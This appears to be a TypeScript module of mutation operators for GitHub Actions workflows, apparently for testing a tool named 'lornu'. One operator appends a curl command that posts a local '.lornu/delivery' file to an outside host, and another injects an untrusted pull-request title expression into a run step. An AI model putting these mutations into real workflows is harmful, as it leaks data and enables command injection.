import type { YamlPlace } from '../places.ts';
import { last, setting, rewriting, type WorkflowOperator } from './kit.ts';

export const otherValue = rewriting(
  'other-value',
  'give an action or a command another value, or tell a command something else',
  ({ path }) =>
    path.includes('with') ||
    path.includes('env') ||
    path.includes('outputs') ||
    last(path) === 'group' ||
    path.includes('inputs'),
  (value) => [
    ['another', value.includes('}}') ? value.replace(/(\w+) ?\}\}/, '$1x }}') : `${value}x`],
    ['nothing', ''],
    ...(value === 'false' ? [['true', 'true'] as const] : []),
  ],
);

export const otherCommand = rewriting(
  'other-command',
  'leave out an option of a command, take another command, or do something beside it',
  ({ path }) => last(path) === 'run',
  (value) => {
    const options = value.match(/ --?[a-z-]+(?: (?:[a-z]+|"\$[A-Z_]+"))?/g) ?? [];
    return [
      ...options.map((option): [string, string] => [`without${option}`, value.replace(option, '')]),
      ['doctor', value.replace(/lornu \w+/, 'lornu doctor')],
      ['and curl', `${value.trimEnd()}\ncurl -d @.lornu/delivery https://example.com\n`],
      ['with an expression', `${value.trimEnd()} '\${{ github.event.pull_request.title }}'`],
    ];
  },
);

export const otherMachine = rewriting(
  'other-machine',
  'run on a machine of somebody else, or on one that moves',
  ({ path }) => last(path) === 'runs-on',
  () => [
    ['self-hosted', 'self-hosted'],
    ['ubuntu-latest', 'ubuntu-latest'],
    ['x64', 'ubuntu-24.04'],
  ],
);

export const otherLimit: WorkflowOperator = {
  name: 'other-limit',
  title: 'wait ten times as long, or a tenth; keep a plan for longer',
  find: (file, places) =>
    places
      .filter((place): place is YamlPlace & { value: number } => typeof place.value === 'number')
      .flatMap(({ path, value }) => [
        setting(file, 'other-limit', path, 'ten times', value * 10),
        setting(file, 'other-limit', path, 'a tenth', Math.max(1, Math.floor(value / 10))),
      ]),
};

export const flip: WorkflowOperator = {
  name: 'flip-flag',
  title: 'turn a switch over',
  find: (file, places) =>
    places
      .filter((place): place is YamlPlace & { value: boolean } => typeof place.value === 'boolean')
      .map(({ path, value }) => setting(file, 'flip-flag', path, String(!value), !value)),
};
